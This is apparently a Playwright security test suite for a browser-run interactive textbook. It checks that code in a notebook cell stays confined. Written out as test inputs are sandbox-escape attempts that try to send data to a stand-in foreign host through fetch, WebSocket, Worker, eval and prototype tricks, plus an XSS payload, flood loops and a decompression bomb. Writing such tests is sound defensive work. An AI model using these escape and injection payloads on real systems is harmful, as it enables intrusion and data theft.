import { type Server, createServer } from 'node:http'
import { expect, type Page, test } from '@playwright/test'
import { listen, serveSite } from '../../app/site/serve/server.mjs'

const section = '/en/linear-regression-scratch/'

/** Someone else's host, which counts who calls. */
let calls: string[] = []
let elsewhere: Server
let foreign: string
/** A host of the book that sends no headers. */
let bare: Server
let bareAddress: string

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    calls.push(request.url!)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('1')
  })
  foreign = await listen(elsewhere, 0)
  bare = serveSite('dist/site', { headers: false })
  bareAddress = await listen(bare, 0)
})
test.beforeEach(() => void (calls = []))
test.afterAll(() => {
  elsewhere.close()
  bare.close()
})

const cell = (page: Page) => page.locator('[data-cell=linreg]')

/** Puts code into a cell and runs it. */
async function run(page: Page, code: string) {
  await cell(page).locator('[data-code], .editor').first().click()
  await expect(cell(page).locator('.editor :is(textarea, .monaco-editor)').first()).toBeVisible()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.insertText(code)
  await cell(page).getByRole('button', { name: 'Run', exact: true }).click()
}

/** Every way out that we know, each in a `try`; what works is listed. */
const escapes = (foreign: string) => `
import { torch, datasets } from 'torchlet'
const out: string[] = []
const global = globalThis as any
const attempt = async (name: string, way: () => unknown) => {
  try {
    const got = await way()
    if (got !== undefined) out.push(name + ': ' + String(got))
  } catch {}
}
const address = '${foreign}/stolen'
await attempt('fetch', () => global.fetch(address))
await attempt('XMLHttpRequest', () => new global.XMLHttpRequest().open('GET', address))
await attempt('WebSocket', () => new global.WebSocket('ws' + address.slice(4)))
await attempt('EventSource', () => new global.EventSource(address))
await attempt('WebTransport', () => new global.WebTransport(address))
await attempt('FontFace', () => new global.FontFace('x', 'url(' + address + ')').load())
await attempt('importScripts', () => global.importScripts(address))
await attempt('Worker', () => new global.Worker('data:text/javascript,fetch("' + address + '")'))
await attempt('Blob address', () => global.URL.createObjectURL(new Blob(['1'])))
await attempt('BroadcastChannel', () => new global.BroadcastChannel('edits/linear-regression-scratch'))
await attempt('postMessage', () => global.postMessage({ type: 'fatal', message: 'forged' }) ?? global.postMessage)
await attempt('indexedDB', () => global.indexedDB)
await attempt('caches', () => global.caches)
await attempt('cookieStore', () => global.cookieStore)
await attempt('storage', () => global.navigator.storage)
await attempt('locks', () => global.navigator.locks)
await attempt('serviceWorker', () => global.navigator.serviceWorker)
await attempt('file system', () => global.webkitRequestFileSystemSync)
await attempt('close', () => global.close)
await attempt('prototypes', () => {
  for (let layer = global; layer && layer !== Object.prototype; layer = Object.getPrototypeOf(layer))
    for (const name of ['fetch', 'indexedDB', 'caches', 'Worker', 'postMessage', 'WebSocket', 'BroadcastChannel', 'close'])
      if (name in layer && !/is not here/.test(String((() => { try { return layer[name]() } catch (e) { return e } })() ))
        && layer[name] !== undefined) return name
})
await attempt('eval', () => global.eval('1'))
await attempt('Function', () => new global.Function('return 1')())
await attempt('Function by a function', () => (attempt as any).constructor('return 1')())
await attempt('async Function', () => (async () => {}).constructor('return 1')())
await attempt('generator', () => (function* () {}).constructor('yield 1')())
await attempt('timer with text', () => global.setTimeout('fetch("' + address + '")', 0))
await attempt('torch.load', () => torch.load(new URL(address)))
await attempt('data root', async () => { datasets.setRoot(address); return (await datasets.FashionMNIST({ limit: 1 })).identity === 'embedded' ? undefined : 'another' })
await attempt('helper threads by a false address', () => {
  const real = global.URL
  const lie = 'data:text/javascript,fetch("' + address + '")'
  global.URL = function () { return lie }
  Object.defineProperty(Object.prototype, Symbol.toPrimitive, { value: () => lie, configurable: true })
  try { torch.setNumThreads(12) } finally {
    global.URL = real
    delete (Object.prototype as any)[Symbol.toPrimitive]
  }
})
out.length === 0 ? 'confined' : out.join('; ')
`

for (const host of ['headers', 'no headers'] as const) {
  test.describe(`on a host with ${host}`, () => {
    test.use({ serviceWorkers: host === 'headers' ? 'allow' : 'block' })

    test('a hostile cell cannot call out, nor reach storage, other tabs or a fresh global', async ({
      page,
      baseURL,
    }) => {
      const address = host === 'headers' ? baseURL! : bareAddress
      await page.goto(address + section)
      await page.evaluate(() => {
        localStorage.setItem('secret', 'of another tab')
        document.cookie = 'secret=1'
      })
      await run(page, escapes(foreign))
      await expect(cell(page)).toHaveAttribute('data-state', 'done')
      await expect(cell(page).locator('[data-output=value]').last()).toHaveText(/^'confined'/)
      await page.waitForTimeout(500)
      expect(calls).toEqual([])
    })
  })
}

/** Says as much as it can, without pause, and with a clock that always allows it. */
const floods = {
  'prints long lines': `for (;;) console.log('x'.repeat(20_000))`,
  'sends itself messages': `const cells = [{ id: 'a', title: '', code: 'const ' + 'a'.repeat(50_000) + ' = 1', after: [], scope: '' }]
for (let i = 0; ; i++) {
  dispatchEvent(new MessageEvent('message', { data: { type: 'document', version: 1, cells } }))
  await null
}`,
  'takes hold of the kernel': `const then = Promise.prototype.then
const caught: any[] = []
Promise.prototype.then = function (done: any, failed: any) {
  return then.call(this, (value: any) => { if (value?.handle) caught.push(value); return done?.(value) }, failed)
}
await new Promise(done => setTimeout(done, 500))
for (;;) {
  for (const session of caught) session.handle({ type: 'page', cell: 'x', output: '1', from: 0, count: 1 })
  for (const session of caught) session.console.log('x'.repeat(20_000))
  await null
}`,
}

for (const [what, code] of Object.entries(floods)) {
  test(`a cell that ${what} without end does not hold the page`, async ({ page, baseURL }) => {
    await page.goto(baseURL + section)
    const clock = 'let time = 0\nperformance.now = Date.now = () => (time += 1e6)\n'
    await run(page, `${clock}${code}`)
    await expect(cell(page)).toHaveAttribute('data-state', 'running')
    // A hundred frames, and the page still does what it is asked.
    await page.evaluate(async () => {
      for (let i = 0; i < 100; i++) await new Promise(frame => requestAnimationFrame(frame))
    })
    await page.getByRole('button', { name: 'Settings' }).click()
    await page.getByRole('radio', { name: 'Dark' }).check()
    await page.keyboard.press('Escape')
    await cell(page).getByRole('button', { name: 'Stop', exact: true }).click()
    await expect(cell(page)).toHaveAttribute('data-state', 'stopped')
  })
}

test('names and messages of any length are cut, and the page stays usable', async ({ page, baseURL }) => {
  await page.goto(baseURL + section)
  await run(
    page,
    `import { chart, table, choice } from 'notebook'
const long = 'x'.repeat(50_000_000)
chart({ title: long, legend: [long] }).line([1, 2])
table([{ [long]: long }])
choice(long, [long, 'b'])
display({ [long]: Object.defineProperty(class {}, 'name', { value: long }) })
let deep: unknown[] = []
for (let i = 0; i < 1e6; i++) deep = [deep]
display(deep)
throw new Error(long)`,
  )
  await expect(cell(page)).toHaveAttribute('data-state', 'failed')
  expect((await cell(page).innerHTML()).length).toBeLessThan(5_000_000)
  await run(page, '1 + 1')
  await expect(cell(page)).toHaveAttribute('data-state', 'done')
})

test('a hostile link runs nothing, changes nothing unasked and shows what it holds as text', async ({
  page,
  baseURL,
}) => {
  await page.goto(baseURL + section)
  const pack = (edits: unknown) =>
    page.evaluate(async text => {
      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'))
      const bytes = new Uint8Array(await new Response(stream).arrayBuffer())
      return btoa(Array.from(bytes, byte => String.fromCharCode(byte)).join(''))
        .replaceAll('+', '-')
        .replaceAll('/', '_')
        .replaceAll('=', '')
    }, JSON.stringify(edits))
  const script = `</code><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`
  const link = await pack({ linreg: { base: '', text: script }, nowhere: { base: '', text: '1' } })
  // `__proto__` as a key of its own, which only a text can have.
  const withPrototype = await pack(JSON.parse(`{"__proto__":{"base":"","text":"1"},"toString":{"base":"","text":"1"}}`))

  await page.goto('about:blank')
  await page.goto(`${baseURL}${section}#edits=${link}`)
  await expect(page.getByRole('dialog', { name: /brings 1 changed cell/ })).toContainText('onerror')
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(await page.locator('[data-cell]:not([data-state=not-run])').count()).toBe(0)

  await page.goto('about:blank')
  await page.goto(`${baseURL}${section}#edits=${withPrototype}`)
  await expect(page.locator('[data-island=cell][data-live]').first()).toBeVisible()
  await expect(page.getByRole('dialog')).toBeHidden()

  // Six hundred letters that stand for many megabytes.
  const bomb = await pack({ linreg: { base: '', text: 'x'.repeat(60_000_000) } })
  await page.goto('about:blank')
  await page.goto(`${baseURL}${section}#edits=${bomb}`)
  await expect(page.getByText('The link you followed is damaged')).toBeVisible()
})

test('nothing is ever asked of another origin, whatever the page is used for', async ({ page, baseURL }) => {
  const foreignRequests: string[] = []
  page.on('request', request => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== new URL(baseURL!).origin) foreignRequests.push(request.url())
  })
  const refused: string[] = []
  page.on('console', message => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text())
  })
  for (const path of ['/', '/en/', '/zh/', '/en/welcome/', '/zh/softmax-regression-scratch/', section]) {
    await page.goto(path)
    await expect(page.locator('h1').first()).toBeVisible()
  }
  await page.getByRole('button', { name: 'Run all' }).click()
  await expect(page.locator('[data-cell=compare]')).toHaveAttribute('data-state', 'done')
  await page.locator('[data-cell=linreg] [data-code]').click()
  await expect(page.locator('[data-cell=linreg] .monaco-editor').first()).toBeVisible({ timeout: 60_000 })
  await page.getByRole('button', { name: 'Search the book' }).click()
  await page.getByRole('combobox').fill('loss')
  await expect(page.getByRole('option').first()).toBeVisible()
  expect(foreignRequests).toEqual([])
  // The book itself keeps the policy that it sets.
  expect(refused).toEqual([])
})
